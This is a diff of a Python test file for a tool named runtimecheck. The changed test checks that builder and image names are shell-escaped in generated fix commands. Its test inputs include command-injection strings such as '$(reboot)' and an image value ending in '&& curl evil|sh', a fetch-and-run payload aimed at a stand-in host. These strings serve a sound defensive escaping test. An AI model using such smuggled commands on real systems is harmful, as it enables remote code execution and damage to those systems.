@@ -7,7 +7,7 @@ import shlex
 
 import pytest
 
-from runtimecheck import knowledge, report
+from runtimecheck import report
 from runtimecheck.report.style import Style
 from runtimecheck.report.text import render_text
 from runtimecheck.safe import escaped, printable
@@ -87,8 +87,7 @@ def test_escaping_copies_and_leaves_the_result_alone() -> None:
     "builder",
     ["my builder", "ci;touch /tmp/x", "$(reboot)", "it's", f"ci{TITLE}"],
 )
-def test_names_in_fix_commands_are_single_shell_words(builder: str) -> None:
-    kb = knowledge.load()
+def test_names_in_fix_commands_are_single_shell_words(builder: str, kb) -> None:
     image = "registry.example/buildkit:v0.12.5 && curl evil|sh"
     facts = crun_rejecting_keep(builder, image=image, binary_override="my crun",
                                 path="/usr/bin/my runc", evidence="exit 64: no --keep")  # fmt: skip
